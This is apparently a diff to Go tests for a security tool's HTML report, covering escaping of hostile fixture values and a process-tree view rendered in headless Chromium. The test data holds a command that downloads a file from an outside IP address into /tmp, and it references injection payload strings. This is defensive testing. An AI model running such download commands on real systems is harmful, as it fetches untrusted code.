@@ -36,6 +36,14 @@ func hostileReport() *Report {
 	r.Captures[0].File = payloadScript + ".scap"
 	r.Captures[0].Hostname = payloadImg
 	r.RuleFiles = []string{payloadSVG}
+	r.View = payloadScript
+	r.Tree = []ProcessNode{{
+		Process:   Process{Pid: 1, Name: payloadImg, Cmdline: all, User: payloadScript},
+		Container: Container{ID: "abc", Name: payloadSVG},
+		Activity:  []Activity{{Time: time.Unix(1, 0), Kind: payloadScript, Object: all}},
+		Children:  []ProcessNode{{Process: Process{Pid: 2, Name: payloadBreak, Cmdline: all}}},
+	}}
+	r.Detections[0].Children = []Process{{Pid: 3, Name: payloadImg, Cmdline: all}}
 	for i := range r.Detections {
 		d := &r.Detections[i]
 		d.Rule += " " + payloadScript
@@ -209,6 +217,34 @@ func TestHTMLChromiumFilters(t *testing.T) {
 			dom := string(chromium(t, "file://"+page+tc.fragment, "--dump-dom"))
 			if got := strings.Count(dom, `<article class="det `); got != tc.want {
 				t.Errorf("%s shows %d detections, want %d", tc.fragment, got, tc.want)
+			}
+		})
+	}
+}
+
+func TestHTMLChromiumViews(t *testing.T) {
+	t.Parallel()
+	r := shellsReport()
+	r.View = "tree"
+	r.Tree = treeReport().Tree
+	dom := string(chromium(t, "file://"+writeHTMLFile(t, r, nil)+"#q=shadow", "--dump-dom"))
+	// Count what the page shows, not its data block.
+	dom = regexp.MustCompile(`(?s)<script type="application/json".*?</script>`).ReplaceAllString(dom, "")
+	tests := []struct {
+		name, text string
+		want       int
+	}{
+		{"shell card", `<article class="det `, 1},
+		{"commands run", ">Commands run<", 1},
+		{"child commands", "curl -o /tmp/x http://203.0.113.7/x", 1},
+		{"tree nodes", `<li class="node"`, 3},
+		{"nodes hidden by the search", `hidden=""`, 1},
+		{"activity", "open-write", 1},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			if got := strings.Count(dom, tc.text); got != tc.want {
+				t.Errorf("%q occurs %d times, want %d", tc.text, got, tc.want)
 			}
 		})
 	}
